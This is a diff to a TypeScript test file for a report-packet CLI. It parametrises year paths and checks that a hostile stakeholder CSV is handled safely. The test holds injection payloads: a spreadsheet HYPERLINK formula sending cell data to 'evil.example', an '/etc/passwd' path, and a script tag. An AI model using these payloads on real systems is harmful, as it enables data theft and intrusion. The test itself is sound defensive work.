@@ -5,10 +5,10 @@ import { join, relative } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { sha256Hex } from '../../pipeline/publish/index.js';
-import { hasTool, pdfText, runCli, scratchProject } from '../helpers/cli.js';
+import { hasTool, pdfText, runCli, scratchProject, YEAR } from '../helpers/cli.js';
 
 let dir: string;
-const packets = () => join(dir, 'out/2022/packets');
+const packets = () => join(dir, `out/${YEAR}/packets`);
 const distribution = () => parse(readFileSync(join(packets(), 'distribution.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
 
 function allFiles(root: string): string[] {
@@ -37,12 +37,12 @@ describe.skipIf(!hasTool('pdftotext'))('packets', () => {
   it('writes one listed file per recipient of the sample list, with checksums and the revision', () => {
     const rows = distribution();
     expect(rows.map((r) => r.file)).toEqual([
-      'HLSD-2022-annual-report-r1-EN.pdf',
-      'HLSD-2022-annual-report-r1-ES.pdf',
-      'HLSD-2022-annual-report-r1-EN.html',
-      'HLSD-2022-excerpt-r1-EN-example-public-health-analyst.pdf',
-      'HLSD-2022-excerpt-r1-ES-analista-de-ejemplo-en-seguridad-fronteriza.pdf',
-      'HLSD-2022-excerpt-r1-EN-example-financial-crimes-liaison.html',
+      `HLSD-${YEAR}-annual-report-r1-EN.pdf`,
+      `HLSD-${YEAR}-annual-report-r1-ES.pdf`,
+      `HLSD-${YEAR}-annual-report-r1-EN.html`,
+      `HLSD-${YEAR}-excerpt-r1-EN-example-public-health-analyst.pdf`,
+      `HLSD-${YEAR}-excerpt-r1-ES-analista-de-ejemplo-en-seguridad-fronteriza.pdf`,
+      `HLSD-${YEAR}-excerpt-r1-EN-example-financial-crimes-liaison.html`,
     ]);
     expect(Object.keys(rows[0]!)).toEqual(['recipient', 'organisation', 'email', 'language', 'format', 'scope', 'goals', 'actions', 'file', 'sha256', 'revision']);
     for (const row of rows) {
@@ -50,23 +50,24 @@ describe.skipIf(!hasTool('pdftotext'))('packets', () => {
       expect(row.revision).toBe('1');
     }
     // A full report is the build's own file, byte for byte.
-    expect(readFileSync(join(packets(), 'HLSD-2022-annual-report-r1-ES.pdf'))).toEqual(readFileSync(join(dir, 'out/2022/hlsd-report-2022-es.pdf')));
+    expect(readFileSync(join(packets(), `HLSD-${YEAR}-annual-report-r1-ES.pdf`))).toEqual(readFileSync(join(dir, `out/${YEAR}/hlsd-report-${YEAR}-es.pdf`)));
   });
 
   it('an excerpt holds only the requested goal and actions, with cover, contents and methodology', () => {
-    const text = pdfText(join(packets(), 'HLSD-2022-excerpt-r1-ES-analista-de-ejemplo-en-seguridad-fronteriza.pdf'));
+    const text = pdfText(join(packets(), `HLSD-${YEAR}-excerpt-r1-ES-analista-de-ejemplo-en-seguridad-fronteriza.pdf`));
     const flat = text.replace(/\s+/g, ' ');
     expect(flat).toContain('Extracto: Objetivo 2, Acción 7 y Acción 8, con la metodología');
     expect(flat).toContain('Revisión 1');
     expect(text).toMatch(/^\s*Objetivo 2: /m);
     expect(text).not.toMatch(/^\s*Objetivo [13]: /m);
     expect(text).toMatch(/Metodología/);
-    expect(new Set([...flat.matchAll(/Acción (\d+)/g)].map((m) => m[1]))).toEqual(new Set(['7', '8']));
+    // Action sections (headings "Acción N: …" at the start of a line); the goal's milestone table may name other actions.
+    expect(new Set([...text.matchAll(/^\s*Acción (\d+): /gm)].map((m) => m[1]))).toEqual(new Set(['7', '8']));
     for (const left of ['Resumen ejecutivo', 'Historial de revisiones', 'Glosario de siglas']) expect(flat).not.toContain(left);
-    const full = pdfText(join(dir, 'out/2022/hlsd-report-2022-es.pdf'));
+    const full = pdfText(join(dir, `out/${YEAR}/hlsd-report-${YEAR}-es.pdf`));
     expect(full.length).toBeGreaterThan(text.length * 1.5);
 
-    const en = readFileSync(join(packets(), 'HLSD-2022-excerpt-r1-EN-example-financial-crimes-liaison.html'), 'utf8');
+    const en = readFileSync(join(packets(), `HLSD-${YEAR}-excerpt-r1-EN-example-financial-crimes-liaison.html`), 'utf8');
     const visible = en.replace(/<style[\s\S]*?<\/style>/g, '').replace(/<[^>]+>/g, ' ');
     expect(new Set([...visible.matchAll(/Action (\d+)/g)].map((m) => m[1]))).toEqual(new Set(['11', '12']));
     expect(visible).not.toMatch(/Goal \d+:/);
@@ -85,25 +86,25 @@ describe.skipIf(!hasTool('pdftotext'))('packets', () => {
         '/etc/passwd,-2+3,,en,pdf,,,full',
       ].join('\n') + '\n',
     );
-    const before = allFiles(dir).filter((f) => !f.startsWith('out/2022/packets/'));
+    const before = allFiles(dir).filter((f) => !f.startsWith(`out/${YEAR}/packets/`));
     const around = readdirSync(join(dir, '..')).filter((n) => /evil|passwd/.test(n));
     const r = runCli(['packets', '--stakeholders', 'hostile.csv'], { cwd: dir });
     expect(r.status, r.stderr).toBe(0);
-    const after = allFiles(dir).filter((f) => !f.startsWith('out/2022/packets/'));
+    const after = allFiles(dir).filter((f) => !f.startsWith(`out/${YEAR}/packets/`));
     expect(after).toEqual(before);
     expect(readdirSync(join(dir, '..')).filter((n) => /evil|passwd/.test(n))).toEqual(around);
 
     const rows = distribution();
     expect(rows.map((x) => x.file)).toEqual([
-      'HLSD-2022-excerpt-r1-EN-evil.pdf',
-      'HLSD-2022-excerpt-r1-ES-hyperlink-http-evil-example-a1-click.pdf',
-      'HLSD-2022-excerpt-r1-EN-script-alert-1-script.html',
-      'HLSD-2022-excerpt-r1-ES-evil-2.pdf',
-      'HLSD-2022-annual-report-r1-EN.pdf',
+      `HLSD-${YEAR}-excerpt-r1-EN-evil.pdf`,
+      `HLSD-${YEAR}-excerpt-r1-ES-hyperlink-http-evil-example-a1-click.pdf`,
+      `HLSD-${YEAR}-excerpt-r1-EN-script-alert-1-script.html`,
+      `HLSD-${YEAR}-excerpt-r1-ES-evil-2.pdf`,
+      `HLSD-${YEAR}-annual-report-r1-EN.pdf`,
     ]);
     // The sample list's excerpts are gone: only this list's packets remain.
     expect(readdirSync(packets()).sort()).toEqual([...new Set([...rows.map((x) => x.file!), 'distribution.csv'])].sort());
-    expect(r.stderr).toMatch(/remove\s+out\/2022\/packets\/HLSD-2022-excerpt-r1-EN-example-public-health-analyst\.pdf/);
+    expect(r.stderr).toMatch(new RegExp(`remove\\s+out/${YEAR}/packets/HLSD-${YEAR}-excerpt-r1-EN-example-public-health-analyst\\.pdf`));
     expect(rows[1]!.recipient).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
     expect(rows[1]!.organisation).toBe("'@SUM(1+1)");
     expect(rows[2]!.organisation).toBe("'+cmd");
